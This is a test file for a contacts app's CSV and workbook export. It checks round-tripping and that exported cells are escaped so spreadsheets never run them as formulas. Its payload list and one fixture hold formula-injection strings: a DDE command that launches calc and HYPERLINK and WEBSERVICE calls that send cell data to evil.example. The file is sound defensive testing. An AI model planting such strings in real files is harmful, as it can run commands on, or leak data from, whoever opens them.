"""netdesk's own table as CSV and as a workbook: read back whole, and nothing in it is ever a formula."""

from __future__ import annotations

import csv
import io
import itertools
import random
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from netdesk.domain.contacts import Address, Contact, Labelled, LabelledDate
from netdesk.domain.dates import PartialDate
from netdesk.domain.names import Name
from netdesk.domain.own_fields import OwnKind, OwnValue
from netdesk.exchange.detect import sniff
from netdesk.exchange.formats.own_table import OwnTableReader, write_csv
from netdesk.exchange.formats.spreadsheet import SpreadsheetReader
from netdesk.exchange.formats.workbook import CELL_LIMIT, write_xlsx
from netdesk.exchange.looking import look_into
from netdesk.exchange.tables.marking import is_plain_phone, marked, unmarked
from netdesk.exchange.tables.own_columns import Layout
from tests.exchange.given import contacts, drafts, ignored, nobody_asks, people_of, problems

LEILA = Contact(
    name=Name("Leila “Lili” Haddad", "Dr.", "Leila", "Noor", "Haddad", "PhD", "Lili", "Leyla", "Hadad"),
    uid="urn:uuid:1",
    organization="Halden; Storage, AS",
    department="Cells",
    title="=cmd|' /C calc'!A0",
    emails=(Labelled("leila@halden.example", "work"), Labelled("l@home.example", "Club")),
    phones=(Labelled("+47 555 0142", "mobile"), Labelled("+1-555-0142", "work fax")),
    addresses=(Address("Storgata 1\nInngang B", "", "", "Halden", "Viken", "1771", "Norway", "work"),),
    links=(Labelled("https://linkedin.com/in/lhaddad", "LinkedIn"),),
    dates=(LabelledDate(PartialDate(4, 5, 2026), "connected on"),),
    birthday=PartialDate(2, 29),
    notes="- one\n- two",
    tags=("batteries", "a; b", 'said "so"'),
    how_met="At the career fair",
    where_met="Lund",
    introducer="@samuel",
    pronunciation="LAY-la",
    closeness=3,
    rhythm_days=90,
    starred=True,
    archived=True,
    own=(OwnValue("Shirt, size", "M", OwnKind.CHOICE), OwnValue("Score", "-3.5", OwnKind.NUMBER)),
)

NOT_IN_A_TABLE = {
    "photo": "a picture is no text",
    "extra": "lines of a vCard that netdesk does not know mean nothing in a table",
    "the order of own values": "columns have one order for everybody: the user's, as on the desk",
    "name.display": "a whole name that only says the parts again is read as put together from them",
}
"""What a table does not hold, and why."""


def as_a_table_holds(contact: Contact) -> Contact:
    """The contact without what NOT_IN_A_TABLE lists."""
    composed = replace(contact.name, display="")
    name = composed if contact.name.shown == composed.shown else contact.name
    # A name's line ends are read as the list shows them.
    name = replace(name, display=" ".join(name.display.split()))
    return in_order(replace(contact, name=name, extra=(), photo=""))


def in_order(contact: Contact) -> Contact:
    """The contact with its own values by their names."""
    return replace(contact, own=tuple(sorted(contact.own, key=lambda own: own.name)))


def as_csv(*people: Contact, exact: bool = False) -> bytes:
    stream = io.BytesIO()
    write_csv(people, Layout.of(people), stream, exact=exact)
    return stream.getvalue()


def as_xlsx(*people: Contact) -> bytes:
    stream = io.BytesIO()
    write_xlsx(people, Layout.of(people, CELL_LIMIT), stream)
    return stream.getvalue()


def read_csv(data: bytes) -> list[Contact]:
    return [each.contact for each in drafts(list(OwnTableReader(io.BytesIO(data), nobody_asks).read()))]


def read_xlsx(data: bytes) -> list[Contact]:
    found = list(SpreadsheetReader(io.BytesIO(data), nobody_asks, "people.xlsx").read())
    return [each.contact for each in drafts(found)]


def cells_in(data: bytes, encoding: str = "utf-8-sig") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


@pytest.mark.parametrize("exact", [False, True])
def test_a_contact_with_everything_reads_back_whole_from_csv(exact):
    assert read_csv(as_csv(LEILA, exact=exact)) == [LEILA]


def test_a_contact_with_everything_reads_back_whole_from_a_workbook():
    assert read_xlsx(as_xlsx(LEILA)) == [LEILA]


@settings(max_examples=60)
@given(st.lists(contacts, min_size=1, max_size=3), st.booleans())
def test_any_contacts_read_back_whole_from_csv(people, exact):
    found = read_csv(as_csv(*people, exact=exact))
    assert [in_order(each) for each in found] == [as_a_table_holds(each) for each in people]


@settings(max_examples=25)
@given(st.lists(contacts, min_size=1, max_size=2))
def test_any_contacts_read_back_whole_from_a_workbook(people):
    found = read_xlsx(as_xlsx(*people))
    assert [in_order(each) for each in found] == [as_a_table_holds(each) for each in people]


@settings(max_examples=60)
@given(contacts)
def test_another_reader_finds_the_same_cells_in_our_csv(contact):
    layout = Layout.of([contact])
    header, row = cells_in(as_csv(contact, exact=True), "utf-8")
    assert header == layout.header(exact=True)
    assert row == layout.row(contact)


@settings(max_examples=30)
@given(contacts)
def test_another_reader_finds_the_same_cells_in_our_workbook(contact):
    layout = Layout.of([contact], CELL_LIMIT)
    book = CalamineWorkbook.from_filelike(io.BytesIO(as_xlsx(contact)))
    header, row = book.get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert header == layout.header(exact=True)
    wanted = layout.row(contact)
    assert [as_written(cell) for cell in row] == wanted[: len(row)]
    assert not any(wanted[len(row) :])


def as_written(cell: object) -> str:
    """What was written, of a cell that another reader finds: every number is a float to it."""
    return str(cell).removesuffix(".0") if isinstance(cell, float) else str(cell)


# What a spreadsheet would take for a formula

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=WEBSERVICE("http://evil.example")',
    "＝1+1",
    "'=1+1",
    "''@A1",
    '=1+1",=2+2',
    "+1-555-0142",
    "#N/A",
    "TRUE",
    "1e5",
    "2026-01-02",
]  # fmt: skip


def hostile(count: int) -> list[str]:
    """So many cells made to be run."""
    chance = random.Random(13)
    pieces = [*PAYLOADS, ";", ",", '"', "'", "\n", " ", "A1", "+", "-", "=", "@", "\t"]
    made = itertools.chain(
        PAYLOADS,
        (
            chance.choice("=+-@\t'") + "".join(chance.choices(pieces, k=chance.randint(1, 4)))
            for _ in itertools.count()
        ),
    )
    return list(itertools.islice(made, count))


def people_with(cells: list[str]) -> list[Contact]:
    """Ten cells to a person, in ten different columns."""
    rows = [cells[start : start + 10] for start in range(0, len(cells), 10)]
    return [
        Contact(
            name=Name(given=a, family=b),
            organization=c,
            department=d,
            title=e,
            notes=f,
            how_met=g,
            tags=(h,),
            own=(OwnValue("Own", i),),
            emails=(Labelled("a@b.example", j),),
        )
        for a, b, c, d, e, f, g, h, i, j in rows
    ]


def test_of_10_000_hostile_cells_none_begins_as_a_formula_in_csv():
    data = as_csv(*people_with(hostile(10_000)))
    assert data.startswith(b"\xef\xbb\xbf")
    looked_at = 0
    for cell in itertools.chain.from_iterable(cells_in(data)):
        looked_at += bool(cell)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) or is_plain_phone(cell)
    assert looked_at > 10_000


def test_of_10_000_hostile_cells_all_are_text_in_a_workbook():
    people = people_with(hostile(10_000))
    book = load_workbook(io.BytesIO(as_xlsx(*people)))
    looked_at = 0
    for cell in itertools.chain.from_iterable(book.worksheets[0].iter_rows()):
        if cell.value is not None:
            looked_at += 1
            assert isinstance(cell.value, str)
            assert (cell.data_type, cell.number_format) == ("s", "@")
    assert looked_at > 10_000


@settings(max_examples=500)
@given(st.text(st.sampled_from("'=+-@\t\r\n01 .a") | st.characters(), max_size=12))
def test_a_mark_is_taken_off_exactly_as_it_was_put_on(cell):
    assert unmarked(marked(cell)) == cell
    assert marked(cell) in (cell, f"'{cell}")


@pytest.mark.parametrize("phone", ["+47 555 0142", "+4755501420", "+1 (212) 555-0199", "+1 212 555-0199"])
def test_a_plain_phone_number_has_no_mark(phone):
    assert marked(phone) == phone


@pytest.mark.parametrize("cell", ["+1-555-0142", "+1+1", "+12345-1", "+1/2/3456", "-5550142", "+A1"])
def test_what_could_be_worked_out_has_a_mark_although_it_looks_like_a_number(cell):
    assert marked(cell) == f"'{cell}"


def test_exactly_as_it_is_nothing_is_marked():
    header, row = cells_in(as_csv(LEILA, exact=True), "utf-8")
    assert row[header.index("Job title")] == LEILA.title
    assert row[header.index("Phone 2")] == "+1-555-0142"


def test_marks_in_other_programs_tables_are_taken_off_too():
    (draft,) = drafts(people_of("Name,Company,Notes\nAnn Lee,'=Acme,'- one\n"))
    assert (draft.contact.organization, draft.contact.notes) == ("=Acme", "- one")


# The table itself


def test_a_table_is_told_by_its_headings_and_has_as_many_columns_as_are_needed():
    data = as_csv(LEILA, Contact(name=Name("Bo")))
    assert sniff(data, "people.csv").name == "netdesk contacts"
    header = cells_in(data)[0]
    assert [each for each in header if each.startswith(("Email", "Phone "))] == [
        "Email 1", "Email 1 label", "Email 2", "Email 2 label",
        "Phone 1", "Phone 1 label", "Phone 2", "Phone 2 label",
    ]  # fmt: skip
    assert "Address 1 postal code" in header
    assert "Address 2 city" not in header


def test_the_name_is_there_to_be_read_even_when_it_is_put_together_from_parts():
    header, row = cells_in(as_csv(Contact(name=Name(given="Ann", family="Lee"))))
    assert row[header.index("Name")] == "Ann Lee"
    assert read_csv(as_csv(Contact(name=Name(given="Ann", family="Lee"))))[0].name.display == ""


def test_headings_are_understood_where_the_table_is_no_longer_known_as_ours():
    data = as_csv(LEILA).decode("utf-8-sig").replace("Rhythm (days)", "Every")
    (draft,) = drafts(people_of(data))
    found = draft.contact
    for field in ("name", "organization", "department", "title", "emails", "phones", "links", "addresses"):
        assert getattr(found, field) == getattr(LEILA, field)
    for field in ("birthday", "dates", "how_met", "where_met", "introducer", "pronunciation", "uid"):
        assert getattr(found, field) == getattr(LEILA, field)


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_table_that_a_spreadsheet_saved_otherwise_is_read_all_the_same(delimiter):
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerows(cells_in(as_csv(LEILA)))
    assert read_csv(text.getvalue().replace("“Lili”", "Lili").encode("cp1252"))[0].emails == LEILA.emails


def test_a_long_note_goes_on_in_another_cell_of_a_workbook_and_comes_back_as_one():
    contact = replace(LEILA, notes="many words " * 9_000 + "end")
    assert len(contact.notes) > 2 * CELL_LIMIT
    assert read_xlsx(as_xlsx(contact)) == [contact]
    assert read_csv(as_csv(contact)) == [contact]


def test_a_note_of_many_lines_is_one_cell():
    contact = replace(LEILA, notes="\n".join(f"line {number}" for number in range(500)))
    assert read_csv(as_csv(contact)) == [contact]


def test_what_looks_like_an_escape_of_excel_is_kept_as_it_is():
    contact = replace(LEILA, notes="_x0041_ _x000D_ __x0042_")
    assert read_xlsx(as_xlsx(contact)) == [contact]


def test_a_cell_that_cannot_be_taken_is_told_and_put_into_the_notes():
    data = as_csv(LEILA).decode("utf-8-sig").replace(",3,90,", ",very,90,").replace("'--02-29", "spring")
    found = list(OwnTableReader(io.BytesIO(data.encode()), nobody_asks).read())
    assert len(problems(found)) == 2
    assert drafts(found)[0].contact.notes.endswith("Birthday: spring\nCloseness: very")


def test_a_row_about_nobody_is_rejected_with_its_text():
    data = as_csv(LEILA) + b",,,,,,,,,\r\n" + b"," * 14 + b"work\r\n"
    found = list(OwnTableReader(io.BytesIO(data), nobody_asks).read())
    (problem,) = problems(found)
    assert problem.rejected
    assert problem.raw.endswith(",work")
    assert [each.why for each in ignored(found)] == ["an empty row"]


def test_nobody_is_asked_how_a_table_of_ours_is_to_be_read(tmp_path):
    for name, data in (("people.xlsx", as_xlsx(LEILA)), ("people.csv", as_csv(LEILA))):
        (tmp_path / name).write_bytes(data)
        found = look_into(tmp_path / name)
        assert found is None or not (found.is_table or found.doubts)


def test_columns_that_were_put_in_since_lose_nothing():
    rows = list(csv.reader(io.StringIO(as_csv(Contact(Name("Ann Lee"), notes="Kind.")).decode("utf-8-sig"))))
    rows[0] += ["E-mail (work)", "LinkedIn", "Mobile", "Shoe size", "Email 1"]
    rows[1] += ["ann@x.example", "linkedin.com/in/ann", "+46 70 1", "38", ""]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    (found,) = read_csv(text.getvalue().encode())
    assert found.emails == (Labelled("ann@x.example", "work"),)
    assert found.links == (Labelled("linkedin.com/in/ann", "LinkedIn"),)
    assert found.phones == (Labelled("+46 70 1", "mobile"),)
    assert found.notes == "Kind.\nShoe size: 38"
